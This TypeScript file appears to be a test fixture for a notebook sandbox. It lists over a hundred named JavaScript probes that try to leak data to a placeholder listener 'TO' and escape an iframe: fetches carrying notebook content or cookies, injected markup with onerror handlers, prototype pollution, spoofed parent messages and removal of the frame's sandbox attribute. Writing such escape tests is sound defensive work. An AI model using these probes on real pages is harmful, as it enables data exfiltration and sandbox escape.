import {moreProbes} from "./more-probes.ts";

/** Programs that try to get out of a notebook. `TO` stands for the address of a listener that must hear nothing, `WS`
 * for
 * the same over web sockets, `UDP` for a port that hears datagrams. */
export const probes: Record<string, string> = {
  ...moreProbes,
  fetch: "await fetch('TO')",
  "fetch without cors": "await fetch('TO', {mode: 'no-cors', method: 'POST', body: " +
    "JSON.stringify(story.claims.slice(0, 3))})",
  "fetch kept alive": "fetch('TO', {keepalive: true, mode: 'no-cors'})",
  "XMLHttpRequest": "const r = new XMLHttpRequest(); r.open('GET', 'TO'); r.send()",
  beacon: "navigator.sendBeacon('TO', 'x')",
  WebSocket: "new WebSocket('WS')",
  EventSource: "new EventSource('TO')",
  "image": "new Image().src = 'TO'",
  "image in the page": "document.body.innerHTML += '<img src=\"TO\">'",
  "image set": "document.body.innerHTML += '<img srcset=\"TO 1x\">'",
  "SVG image": "document.body.innerHTML += '<svg><image href=\"TO\"/></svg>'",
  "SVG use": "document.body.innerHTML += '<svg><use href=\"TO#a\"/></svg>'",
  "style background": "document.body.style.background = 'url(TO)'",
  "style import": "document.body.innerHTML += '<style>@import url(TO);</style>'",
  "style sheet link": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: " +
    "'TO'}))",
  "prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: 'TO'}))",
  "preload": "document.head.append(Object.assign(document.createElement('link'), {rel: 'preload', as: 'image', href: " +
    "'TO'}))",
  "preconnect": "document.head.append(Object.assign(document.createElement('link'), {rel: 'preconnect', href: 'TO'}))",
  "prerender by rules": "document.head.append(Object.assign(document.createElement('script'), {type: " +
    "'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: ['TO']}]})}))",
  "icon": "document.head.append(Object.assign(document.createElement('link'), {rel: 'icon', href: 'TO'}))",
  "font": "await new FontFace('x', 'url(TO)').load()",
  "script": "document.body.append(Object.assign(document.createElement('script'), {src: 'TO'}))",
  "import()": "await import('TO')",
  "import() by eval": "await eval(\"import('TO')\")",
  "import() by Function": "await new Function(\"return import('TO')\")()",
  "worker": "new Worker('TO')",
  "worker from a blob": "new Worker(URL.createObjectURL(new Blob([\"fetch('TO')\"])))",
  "shared worker": "new SharedWorker('TO')",
  "service worker": "await navigator.serviceWorker.register('TO')",
  "audio": "new Audio('TO').play()",
  "video": "document.body.innerHTML += '<video src=\"TO\" autoplay></video>'",
  "track": "document.body.innerHTML += '<video><track src=\"TO\" default></video>'",
  "object": "document.body.innerHTML += '<object data=\"TO\"></object>'",
  "embed": "document.body.innerHTML += '<embed src=\"TO\">'",
  "frame": "document.body.innerHTML += '<iframe src=\"TO\"></iframe>'",
  "frame of its own text": "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: " +
    "'<script>fetch(\"TO\")</scr' + 'ipt><img src=\"TO\">'}))",
  "form": "document.body.innerHTML += '<form action=\"TO\" method=post><input name=a value=b></form>'; " +
    "document.forms[0].submit()",
  "ping": "document.body.innerHTML += '<a href=\"#\" ping=\"TO\">x</a>'; document.querySelector('a').click()",
  "navigation of itself": "location.href = 'TO'",
  "replacement of itself": "location.replace('TO')",
  "refresh": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=TO\">'",
  "navigation of the page": "top.location = 'TO'",
  "navigation of the holder": "parent.location.href = 'TO'",
  "a link to the top": "document.body.append(Object.assign(document.createElement('a'), {href: 'TO', target: '_top', " +
    "id: 'z'})); document.getElementById('z').click()",
  "popup": "open('TO')",
  "popup by link": "document.body.append(Object.assign(document.createElement('a'), {href: 'TO', target: '_blank', " +
    "id: 'z'})); document.getElementById('z').click()",
  "download": "document.body.append(Object.assign(document.createElement('a'), {href: 'TO', download: 'x', id: " +
    "'z'})); document.getElementById('z').click()",
  "peer connection": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); " +
    "p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())",
  "peer connection of a frame": "const f = document.createElement('iframe'); document.body.append(f); const p = new " +
    "f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); p.createDataChannel('x'); " +
      "await p.setLocalDescription(await p.createOffer())",
  "peer connection of a frame's text": "document.body.append(Object.assign(document.createElement('iframe'), " +
    "{srcdoc: `<script>const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); " +
      "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</scr` + 'ipt>'}))",
  "web transport": "new WebTransport('TO')",
  "cookie": "document.cookie = 'leak=1'; display(document.cookie); await fetch('TO' + document.cookie)",
  "storage": "localStorage.setItem('leak', '1')",
  "session storage": "sessionStorage.setItem('leak', '1')",
  "database": "indexedDB.open('leak')",
  "caches": "await caches.open('leak')",
  "the holder's document": "parent.document.body.innerHTML = 'leak'",
  "the top's title": "top.document.title = 'leak'",
  "the holder's storage": "parent.localStorage.setItem('leak', '1')",
  "the frame element": "frameElement.removeAttribute('sandbox')",
  "clipboard": "await navigator.clipboard.writeText('leak')",
  "copy command": "document.execCommand('copy')",
  "geolocation": "await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))",
  "camera": "await navigator.mediaDevices.getUserMedia({video: true})",
  "alert": "alert('leak')",
  "fullscreen": "await document.documentElement.requestFullscreen()",
  "prototype": "Object.prototype.leaked = 1; Array.prototype.push = () => { throw 1 }; display([{a: 1}])",
  "prototype by a letter": "parent.postMessage(JSON.parse('{\"cells\": [{\"__proto__\": {\"leaked\": 1}}], " +
    "\"height\": 9, \"constructor\": 1}'), '*')",
  "spoofed news": "for (let i = 0; i < 50; i++) parent.postMessage({cells: [{state: 'done'}], height: 1e9, message: " +
    "'<img src=x onerror=alert(1)>'}, '*')",
  "spoofed failure with markup": "parent.postMessage({cells: [{state: 'failed', message: '<img src=TO " +
    "onerror=alert(1)>', line: '<b>'}], height: NaN}, '*'); throw new Error('<img src=TO onerror=alert(1)>')",
  "a message with a function's shape": "parent.postMessage({type: 'run', code: 'alert(1)', cells: [], files: {}}, '*')",
  "a message of 50 MB": "parent.postMessage({cells: [{message: 'x'.repeat(5e7)}], height: 1}, '*')",
  "a second meeting": "parent.postMessage('ready', '*'); addEventListener('message', ({ports}) => " +
    "ports[0]?.postMessage('x'))",
  "the port by a letter's parts": "Object.defineProperty(MessageEvent.prototype, 'data', {get() { " +
    "this.target.postMessage({cells: [], height: 1e9}); return 1 }})",
  "the port by what is bound": "for (const name of ['call', 'apply', 'bind']) Function.prototype[name] = function " +
    "(...all) { parent.postMessage(all.map(String), '*') }",
  "news by a patched height": "Object.defineProperty(Element.prototype, 'scrollHeight', {get: () => ({valueOf: () => " +
    "fetch('TO'), toString: () => 'x'})})",
  "news by a patched list": "Array.prototype.map = () => ['<img src=TO>']",
  "a run's own words": "const {stack} = new Error(); throw Object.assign(new Error('x'), {stack: 'cell-0.js:<img " +
    "src=TO>:1', message: {toString: () => fetch('TO')}})",
  "end of script in a string": "display('</script><script>parent.leak()</scr' + 'ipt>')",
  "a name for the window": "window.name = 'leak'; history.pushState({}, '', '#leak')",
  "fetch later": "fetchLater('TO', {activateAfter: 0})",
  "beacon as the page goes": "addEventListener('pagehide', () => navigator.sendBeacon('TO', 'x')); location.reload()",
  "fetch as the page goes": "addEventListener('pagehide', () => fetch('TO', {keepalive: true})); " +
    "location.replace('/sandbox.htm')",
  "a reload": "location.reload()",
  "a page of the site": "location.href = '/index.html?leak'",
  "the sandbox itself": "location.href = location.href.replace(/[^/]*$/, 'sandbox.htm?x')",
  "a page from data": "location.href = 'data:text/html,<script>fetch(\"TO\")</scr' + 'ipt><img src=TO>'",
  "a page from a blob": "location.href = URL.createObjectURL(new Blob(['<script>fetch(\"TO\")</scr' + 'ipt><img " +
    "src=TO>'], {type: 'text/html'}))",
  "a program as an address": "location.href = 'javascript:fetch(\"TO\")'",
  "a page written anew": "document.open(); document.write('<script>fetch(\"TO\")</scr' + 'ipt><img src=TO>'); " +
    "document.close()",
  "a policy of its own": "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: " +
    "'Content-Security-Policy', content: 'default-src *'})); await fetch('TO')",
  "a base": "document.head.append(Object.assign(document.createElement('base'), {href: 'TO'})); " +
    "document.body.append(Object.assign(new Image(), {src: 'x.png'}))",
  "a manifest": "document.head.append(Object.assign(document.createElement('link'), {rel: 'manifest', href: 'TO'}))",
  "a module ahead": "document.head.append(Object.assign(document.createElement('link'), {rel: 'modulepreload', href: " +
    "'TO'}))",
  "a host looked up ahead": "document.head.append(Object.assign(document.createElement('link'), {rel: " +
    "'dns-prefetch', href: 'TO'}))",
  "a page rendered ahead": "document.head.append(Object.assign(document.createElement('script'), {type: " +
    "'speculationrules', textContent: JSON.stringify({prerender: [{source: 'list', urls: ['TO'], eagerness: " +
      "'immediate'}]})}))",
  "an import map": "document.head.append(Object.assign(document.createElement('script'), {type: 'importmap', " +
    "textContent: JSON.stringify({imports: {x: 'TO'}})})); await eval('import(\"x\")')",
  "a module of its own text": "await eval(`import(URL.createObjectURL(new Blob(['fetch(\"TO\")'], {type: " +
    "'text/javascript'})))`)",
  "a script of its own text": "document.body.append(Object.assign(document.createElement('script'), {textContent: " +
    "'fetch(\"TO\")'}))",
  "a handler in markup": "document.body.innerHTML += `<img src=data:, onerror=\"fetch('TO')\">`",
  "a paint worklet": "await CSS.paintWorklet.addModule('TO')",
  "an audio worklet": "await new AudioContext().audioWorklet.addModule('TO')",
  "an animation's worklet": "await CSS.animationWorklet.addModule('TO')",
  "a style sheet of its own": "const sheet = new CSSStyleSheet(); await sheet.replace('body { background: url(TO) } " +
    "@import \"TO\";'); document.adoptedStyleSheets = [sheet]",
  "a cursor": "document.body.style.cursor = 'url(TO), auto'",
  "a list's mark": "document.body.innerHTML += '<ul style=\"list-style-image: url(TO)\"><li>x</ul>'",
  "a mask": "document.body.innerHTML += '<p style=\"mask: url(TO#a); -webkit-mask: url(TO#a)\">x</p>'",
  "a filter": "document.body.innerHTML += '<p style=\"filter: url(TO#a)\">x</p>'",
  "a face in a style": "document.body.innerHTML += " +
    "'<style>@font-face{font-family:x;src:url(TO)}p{font-family:x}</style><p>x'",
  "an image in a style's set": "document.body.style.backgroundImage = 'image-set(\"TO\" 1x)'",
  "an image of a canvas": "const i = new Image(); i.crossOrigin = 'anonymous'; i.src = 'TO'; await i.decode()",
  "a feed image": "document.body.innerHTML += '<svg><feImage href=\"TO\"/><filter id=f><feImage " +
    "href=\"TO\"/></filter><rect filter=\"url(#f)\" width=9 height=9 /></svg>'",
  "a picture's source": "document.body.innerHTML += '<picture><source srcset=\"TO\"><img src=\"data:,\"></picture>'",
  "a poster": "document.body.innerHTML += '<video poster=\"TO\"></video>'",
  "an input that is an image": "document.body.innerHTML += '<input type=image src=\"TO\">'",
  "a table's background": "document.body.innerHTML += '<table background=\"TO\"><tr><td background=\"TO\">x'",
  "a frame set": "document.body.innerHTML += '<frameset><frame src=\"TO\"></frameset>'",
  "a portal": "document.body.append(Object.assign(document.createElement('portal'), {src: 'TO'}))",
  "a fenced frame": "document.body.append(Object.assign(document.createElement('fencedframe'), {src: 'TO', config: " +
    "{url: 'TO'}}))",
  "a frame without credentials": "document.body.append(Object.assign(document.createElement('iframe'), " +
    "{credentialless: true, src: 'TO'}))",
  "a frame by a program": "document.body.append(Object.assign(document.createElement('iframe'), {src: " +
    "'javascript:fetch(\"TO\")'}))",
  "a frame's own functions": "const f = document.createElement('iframe'); document.body.append(f); await " +
    "f.contentWindow.fetch('TO')",
  "a frame's own history": "const f = document.createElement('iframe'); document.body.append(f); " +
    "f.contentWindow.history.pushState(0, '', '#leak')",
  "a frame by its number": "document.body.append(document.createElement('iframe')); await window[0].fetch('TO')",
  "a frame from data": "document.body.append(Object.assign(document.createElement('iframe'), {src: " +
    "'data:text/html,<img src=TO><script>fetch(\"TO\")</scr' + 'ipt>'}))",
  "an object from data": "document.body.innerHTML += `<object data=\"data:text/html,<img src=TO>\"></object>`",
  "a picture with pictures": "document.body.innerHTML += `<img src=\"data:image/svg+xml,<svg " +
    "xmlns='http://www.w3.org/2000/svg'><image href='TO'/></svg>\">`",
  "a shadow": "const d = document.createElement('div'); document.body.append(d); d.attachShadow({mode: " +
    "'open'}).innerHTML = '<img src=\"TO\"><link rel=stylesheet href=\"TO\">'",
  "a template that is cloned": "const t = document.createElement('template'); t.innerHTML = '<img src=\"TO\">'; " +
    "document.body.append(document.importNode(t.content, true))",
  "a document of its own": "const d = document.implementation.createHTMLDocument(); d.body.innerHTML = '<img " +
    "src=\"TO\">'; document.body.append(d.body.firstChild)",
  "a document of XML": "document.body.append(document.importNode(new DOMParser().parseFromString('<img " +
    "xmlns=\"http://www.w3.org/1999/xhtml\" src=\"TO\"/>', 'text/xml').documentElement, true))",
  "a style sheet of XML": "document.insertBefore(document.createProcessingInstruction('xml-stylesheet', 'href=\"TO\" " +
    "type=\"text/css\"'), document.documentElement)",
  "a push": "await navigator.serviceWorker?.getRegistration(); await Notification.requestPermission(); new " +
    "Notification('leak', {icon: 'TO'})",
  "a payment": "await new PaymentRequest([{supportedMethods: 'TO'}], {total: {label: 'x', amount: {currency: 'EUR', " +
    "value: '1'}}}).canMakePayment()",
  "a credential": "await navigator.credentials.get({federated: {providers: ['TO']}})",
  "a share": "await navigator.share({url: 'TO'})",
  "a registered protocol": "navigator.registerProtocolHandler('web+leak', 'TO%s')",
  "a channel": "new BroadcastChannel('leak').postMessage('x')",
  "a lock": "await navigator.locks.request('leak', () => 1)",
  "a report": "new ReportingObserver(() => fetch('TO')).observe(); fetch('TO')",
  "the opener": "(window.opener ?? top).location = 'TO'",
  "a window's own name": "open('TO', '_self')",
  "a window over the top": "open('TO', '_top')",
  "a form to the top": "document.body.innerHTML += '<form action=\"TO\" target=_top><button>x'; " +
    "document.querySelector('form').requestSubmit()",
  "a click on a map": "document.body.innerHTML += '<map><area href=\"TO\"></map>'; " +
    "document.querySelector('area').click()",
  "a link in a picture": "document.body.innerHTML += '<svg><a href=\"TO\"><text>x</text></a></svg>'; " +
    "document.querySelector('svg a').dispatchEvent(new MouseEvent('click', {bubbles: true}))",
  "a link that stands nowhere": "Object.assign(document.createElement('a'), {href: 'TO'}).click()",
  "a link followed by a ping": "Object.assign(document.createElement('a'), {href: '#', ping: 'TO'}).click()",
  "a refresh by a header": "document.write('<meta http-equiv=refresh content=\"0;url=TO\">')",
  "an XSLT": "const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet " +
    "version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:copy-of " +
      "select=\"document(\\'TO\\')\"/></xsl:template></xsl:stylesheet>', 'text/xml')); " +
        "x.transformToFragment(document, document)",
  "the guard by its name": "const name = Object.getOwnPropertyNames(window).find((one) => one.startsWith('tick')); " +
    "Object.defineProperty(window, name, {value: () => {}}); await fetch('TO')",
  "plain eval by its name": "const name = Object.getOwnPropertyNames(window).find((one) => one.startsWith('take')); " +
    "window[name]('npm:lodash')"
};

/** Those of some probes that can be tried in one frame at one time: they neither lead it elsewhere nor change what
 * others find there. */
export function sharing(names: string[]): string[] {
  const changes = new RegExp([
    "\\blocation", "history", "(?<![\\w.])open\\(", "document\\.open", "\\breload", "submit", "click\\(",
    "dispatchEvent", "prototype", "defineProperty", "http-?equiv", "'base'", "importmap",
    "adoptedStyleSheets", "frameElement", "document\\.write", "postMessage", "insertBefore", "throw ", "Fullscreen",
    "getOwnPropertyNames", "\\bnavigation\\.", "MessagePort", "target=", "print\\(", "requestPointerLock"
  ].join("|"), "i");
  return names.filter((name) => !changes.test(probes[name]!));
}
